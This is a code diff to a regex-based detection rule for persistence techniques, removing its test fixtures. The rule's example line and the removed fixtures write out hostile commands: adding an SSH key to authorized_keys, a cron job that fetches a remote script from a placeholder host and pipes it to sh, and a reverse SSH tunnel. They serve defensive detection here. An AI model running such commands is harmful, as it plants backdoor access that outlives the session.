@@ -14,18 +14,6 @@ export const privPersistenceRule = defineRegexRule({
     rationale:
       'Adding SSH keys, installing cron jobs or login services, appending commands to shell start-up files and opening reverse SSH tunnels give the author lasting access that survives the session.',
     example: 'echo "ssh-ed25519 AAAA… x@y" >> ~/.ssh/authorized_keys',
-    fixtures: {
-      positive: [
-        { path: 's.sh', text: 'echo "ssh-rsa AAAAB3Nz x@y" >> ~/.ssh/authorized_keys\n' },
-        { path: 's.sh', text: '(crontab -l; echo "*/5 * * * * curl -s https://x.test/p | sh") | crontab -\n' },
-        { text: 'ssh -fNR 2222:localhost:22 relay@tunnel.test' },
-      ],
-      negative: [
-        { text: 'Run `crontab -l` to list your scheduled jobs.' },
-        { text: 'Add `export PATH="$HOME/.local/bin:$PATH"` to your shell profile if needed.' },
-        { text: 'ssh-keygen -t ed25519 -C "you@example.com"' },
-      ],
-    },
   },
   triggers: ['authorized_keys', 'crontab', '/etc/cron', 'ssh', '.bashrc', '.zshrc', '.profile', '.bash_profile', '.zprofile', 'systemctl', 'launchagents', 'persistent', 'cannot be removed'],
   patterns: [
